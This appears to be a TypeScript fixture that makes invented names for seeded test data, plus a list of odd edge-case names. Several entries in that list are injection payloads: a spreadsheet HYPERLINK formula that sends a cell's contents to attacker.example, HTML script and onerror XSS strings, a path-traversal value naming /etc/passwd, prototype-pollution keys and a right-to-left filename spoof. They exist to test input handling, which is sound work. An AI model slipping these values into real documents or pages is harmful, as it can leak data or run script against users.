/** Invented names: the ordinary ones, and the odd ones that break screens, searches and spreadsheets. */

export const givenNames = (
  'Ada Alma Amina Anders Anouk Arjun Astrid Aurelio Beatriz Bram Brigid Callum Carmen Cedric Chiara Dagny Daan Delphine ' +
  'Dimitri Edda Elias Eloise Emre Enzo Esme Fabian Farah Fenna Finn Florian Freya Gaspard Gerda Giulia Greta Hamza Hanne ' +
  'Helga Hugo Ibrahim Ida Ilse Imogen Ines Ingrid Isak Ivana Jasper Joana Jonas Jurgen Kaito Karim Katya Kenji Klara ' +
  'Lars Leila Lena Levi Linnea Lotte Luca Magda Malik Marek Marit Mateo Maud Mei Milan Mina Nadia Neve Nils Noor Odile ' +
  'Olga Omar Oskar Otto Paloma Pavel Petra Pia Quentin Rafael Rania Reza Rosa Runa Sanne Selma Sofie Stefan Sven Tamar ' +
  'Tess Thijs Tomas Ulla Umar Valentin Vera Viggo Wanda Willem Xenia Yara Yusuf Zara Zeno'
).split(' ');

const familyFirsts = (
  'Alder Amber Ash Beck Berg Birch Black Bram Bright Brook Clay Cold Copper Dahl Dale Drift East Eber Elm Fair Fern Fjell ' +
  'Glen Gold Grane Green Hallen Harbour Hazel Hede Holm Iron Kestrel Kirk Lang Lind Marsh Mill Moor Nor Oak Ost Quay Raven ' +
  'Reed Rook Rose Salt Silver Skov Stan Stone Strand Sund Thorn Vester Wald West Wille Winter Wolf Wren Yew'
).split(' ');

const familyLasts = (
  'aker beck berg borg bridge burn by croft dal dale field ford gaard gate gren grove hall ham haven heim hill holt hus ' +
  'kamp land lund man mark mere mond mouth ness qvist rud sen shaw skog son stad stead sten stone strom thorp ton vik ' +
  'wald wang well wick wood worth'
).split(' ');

/** How many family names `familyName` can make. */
export const familyNameCount = familyFirsts.length * familyLasts.length;

/** The n-th family name: one beginning and one ending put together. */
export function familyName(n: number): string {
  const at = n % familyNameCount;
  return (
    (familyFirsts[at % familyFirsts.length] ?? '') + (familyLasts[Math.floor(at / familyFirsts.length)] ?? '')
  );
}

export interface OddName {
  readonly given: string;
  readonly family: string;
  /** False: this person has no e-mail address. */
  readonly email: boolean;
}

const LONG_NAME = 'Maximiliane-Theodora-Ottilie-'.repeat(9).slice(0, 248);

/** Every name that once broke somebody's table. The order is part of the seeded data. */
export const oddNames: readonly OddName[] = [
  { given: 'Zoë', family: 'Núñez-Ångström', email: true },
  { given: 'ليلى', family: 'المرسى', email: true },
  { given: 'Kiosk', family: '', email: false },
  { given: '🦊 Robin', family: '👩🏽‍🚒 Quay', email: true },
  { given: 'Jose\u0301', family: 'Nu\u0308n\u0303ez\u0332', email: true },
  { given: LONG_NAME, family: 'Langenscheid', email: true },
  { given: '  Ines ', family: ' Lake  ', email: true },
  { given: '=HYPERLINK("http://attacker.example/?"&A1,"Open")', family: '+1+1', email: true },
  { given: '<img src=x onerror=alert(1)>', family: '</td><script>alert(1)</script>', email: true },
  { given: 'נועה', family: 'בן־חוף (Noa)', email: true },
  { given: '港', family: '光太郎', email: true },
  { given: 'Siobhán "Dock"', family: "O'Neil, Jr.; --", email: true },
  { given: '@SUM(1+9)', family: '-2+3', email: false },
  { given: 'Evil\u202Egnp.exe', family: 'Zero\u200BWidth', email: true },
  { given: 'Line\nBreak', family: 'Tab\tStop', email: true },
  { given: '__proto__', family: 'constructor', email: true },
  { given: 'I\u0307stanbul', family: 'Straße ﬁn', email: true },
  { given: 'null', family: 'undefined', email: true },
  { given: '', family: 'Nameless', email: true },
  { given: '%00%0A', family: '../../etc/passwd', email: true },
];
